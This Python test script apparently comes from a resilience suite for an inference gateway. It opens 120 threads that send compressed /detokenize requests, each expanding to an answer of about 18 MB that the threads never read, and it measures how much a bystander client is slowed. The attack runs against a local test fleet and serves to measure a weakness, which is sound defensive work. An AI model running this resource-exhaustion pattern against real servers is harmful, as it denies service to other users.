"""Long answers that are asked for and never read: each holds its memory until the server ends it, and its sender comes back at once."""

import gzip
import json
import os
import socket
import tempfile
import threading

from api_keys import key_line, write_private
from bystanders import harm_of
from fleet import Fleet

WHAT = "120 connections of one key ask /detokenize for answers of 18 MB, by some KB in gzip, and read none"
COUNT = 120
IDS = 900_000
# "<reponame>" of the default model; twice in an answer.
TOKEN = 4


def leave_unread(port, body, is_over):
    head = f"POST /detokenize HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer key-of-the-attacker\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: {len(body)}\r\n\r\n"
    while not is_over.is_set():
        try:
            with socket.socket() as attacker:
                attacker.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                attacker.settimeout(5)
                attacker.connect(("127.0.0.1", port))
                attacker.sendall(head.encode() + body)
                is_over.wait(60)
        except OSError:
            pass
        is_over.wait(0.1)


def run(port):
    body = gzip.compress(json.dumps({"tokens": [TOKEN] * IDS}).encode())

    def attack(is_over):
        attackers = [threading.Thread(target=leave_unread, args=(port, body, is_over)) for _ in range(COUNT)]
        for attacker in attackers:
            attacker.start()
        for attacker in attackers:
            attacker.join()

    return attack


def attack():
    with tempfile.TemporaryDirectory() as folder:
        lines = key_line("client", "key-of-the-client") + key_line("attacker", "key-of-the-attacker", "reading-ms-per-minute=1000000")
        keys = write_private(os.path.join(folder, "keys"), lines)
        with Fleet(workers=1, gateway_flags=["--api-key-file", keys]) as fleet:
            quiet = harm_of(fleet, 4, key="key-of-the-client")
            attacked = harm_of(fleet, 40, run(fleet.port), key="key-of-the-client")
        return quiet, attacked
